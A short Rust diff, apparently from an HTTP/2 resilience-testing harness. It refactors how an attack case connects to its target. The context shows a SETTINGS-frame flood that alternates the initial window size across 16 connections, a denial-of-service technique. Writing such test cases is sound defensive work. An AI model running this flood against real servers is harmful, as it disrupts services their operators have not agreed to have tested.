@@ -5,7 +5,7 @@
 use anyhow::Result;
 
 use super::super::case::{Case, Role, Target};
-use super::super::wire::{self, Frames, INITIAL_WINDOW_SIZE, SETTINGS, frame};
+use super::super::wire::{self, INITIAL_WINDOW_SIZE, SETTINGS, frame};
 
 /// Connections.
 const CONNECTIONS: usize = 16;
@@ -25,7 +25,7 @@ async fn attack(target: Target) -> Result<()> {
 }
 
 async fn change_settings(target: Target, _: usize) -> Result<()> {
-    let mut connection = Frames::connect(&target.clients).await?;
+    let mut connection = wire::connect_http2(&target.clients).await?;
     let window = |bytes: u32| [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &bytes.to_be_bytes()].concat();
     let both = [frame(SETTINGS, 0, 0, &window(1)), frame(SETTINGS, 0, 0, &window(1 << 20))].concat();
     let flood = both.repeat(AT_ONCE / 2);
